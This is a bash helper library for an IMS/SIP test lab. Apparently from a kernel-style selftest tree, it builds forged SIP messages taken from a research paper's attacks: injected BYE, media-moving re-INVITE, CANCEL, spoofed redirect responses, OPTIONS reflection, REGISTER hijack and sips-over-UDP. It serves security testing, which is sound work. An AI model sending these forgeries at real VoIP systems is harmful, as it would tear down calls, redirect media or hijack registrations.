#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# The seed paper's SIP attacks as messages, for the IMS lab
# (ims_lab.sh, sourced first): the attack selftests
# (imsseg_sip_attacks*.sh, imsseg_ipsec_ue.sh) and the demo
# (tools/lab/demo-guest.sh) send the same forgeries. Each function
# writes one SIP message to FILE; calls are those of uac.xml (Call-ID
# CID, From tag f-CID, To tag t-CID, INVITE branch z9hG4bK-CID-i) to a
# core UAS through kamailio. SRC is the top Via's sent-by (host:port)
# the attacker claims.
#
#   atk_bye FILE CID CSEQ SRC              BYE in a live call (4.2a)
#   atk_reinvite FILE CID CSEQ SRC IP PORT re-INVITE moving the media (4.1a)
#   atk_update FILE CID CSEQ SRC           UPDATE without SDP (4.2b)
#   atk_cancel FILE CID CALLEE SRC         CANCEL of the call's INVITE,
#                                          SRC: the INVITE's Via (4.2c)
#   atk_response FILE "302 Moved" CID CALLEE CONTACT VIA...
#                                          a 3xx/305 on kamailio's INVITE
#                                          with its Via stack (4.1b/c)
#   atk_reflect FILE CID VICTIM            OPTIONS, top Via VICTIM
#                                          (host:port), no rport (4.2d)
#   atk_register FILE CID USER CONTACT EXPIRES SRC [HEADER...]
#                                          REGISTER for USER (4.3a)
#   atk_sips FILE CID SRC                  INVITE sips: over UDP (5.2.3)
#   atk_send NAME DST FILE ANSWERS [SIPSEND_OPTS...]
#                                          from atk to DST:5060; check that
#                                          ANSWERS datagrams came back
#                                          within a second ($LAB_DIR/NAME.rsp)

atk_bye() {
	lab_indialog "$1" BYE "$2" "$3" "$4"
}

atk_reinvite() {
	local h=${4%:*}

	LAB_BODY=$(lab_sdp "$5" "$6") lab_indialog "$1" INVITE "$2" "$3" \
		"$4" "Contact: <sip:caller@$h>" "Content-Type: application/sdp"
}

atk_update() {
	lab_indialog "$1" UPDATE "$2" "$3" "$4" "Contact: <sip:caller@${4%:*}>"
}

atk_cancel() {
	lab_msg "$1" "CANCEL sip:$3@$LAB_DOMAIN SIP/2.0" \
		"Via: SIP/2.0/UDP $4;branch=z9hG4bK-$2-i" "Max-Forwards: 70" \
		"From: <sip:caller@$LAB_DOMAIN>;tag=f-$2" \
		"To: <sip:$3@$LAB_DOMAIN>" "Call-ID: $2" "CSeq: 1 CANCEL"
}

atk_response() {
	local f=$1 st=$2 cid=$3 callee=$4 contact=$5
	shift 5
	lab_msg "$f" "SIP/2.0 $st" "$@" \
		"From: <sip:caller@$LAB_DOMAIN>;tag=f-$cid" \
		"To: <sip:$callee@$LAB_DOMAIN>;tag=evil-$cid" "Call-ID: $cid" \
		"CSeq: 1 INVITE" "Contact: <$contact>"
}

atk_reflect() {
	lab_msg "$1" "OPTIONS sip:$LAB_DOMAIN SIP/2.0" \
		"Via: SIP/2.0/UDP $3;branch=z9hG4bK-$2" "Max-Forwards: 70" \
		"From: <sip:scan@$LAB_DOMAIN>;tag=r-$2" "To: <sip:$LAB_DOMAIN>" \
		"Call-ID: $2" "CSeq: 1 OPTIONS"
}

atk_register() {
	local f=$1 cid=$2 user=$3 contact=$4 expires=$5 src=$6
	shift 6
	lab_msg "$f" "REGISTER sip:$LAB_DOMAIN SIP/2.0" \
		"Via: SIP/2.0/UDP $src;branch=z9hG4bK-$cid;rport" \
		"Max-Forwards: 70" "From: <sip:$user@$LAB_DOMAIN>;tag=h-$cid" \
		"To: <sip:$user@$LAB_DOMAIN>" "Call-ID: $cid" "CSeq: 1 REGISTER" \
		"Contact: $contact" "Expires: $expires" "$@"
}

atk_sips() {
	LAB_BODY=$(lab_sdp "${3%:*}" 40000) lab_msg "$1" \
		"INVITE sips:service@$LAB_DOMAIN SIP/2.0" \
		"Via: SIP/2.0/UDP $3;branch=z9hG4bK-$2;rport" \
		"Max-Forwards: 70" "From: <sips:mallory@$LAB_DOMAIN>;tag=s-$2" \
		"To: <sips:service@$LAB_DOMAIN>" "Call-ID: $2" "CSeq: 1 INVITE" \
		"Contact: <sips:mallory@$3>" "Content-Type: application/sdp"
}

atk_send() {
	local name=$1 dst=$2 f=$3 n=$4
	shift 4
	lab_sipsend "$atk" "$@" -w 1000 -o "$LAB_DIR/$name.rsp" "$dst" 5060 \
		"$f" >"$LAB_DIR/$name.out" || fail "sipsend $name"
	check_eq "$name: answers to the attacker" \
		"$(sed -n 's/^received //p' "$LAB_DIR/$name.out")" "$n"
}
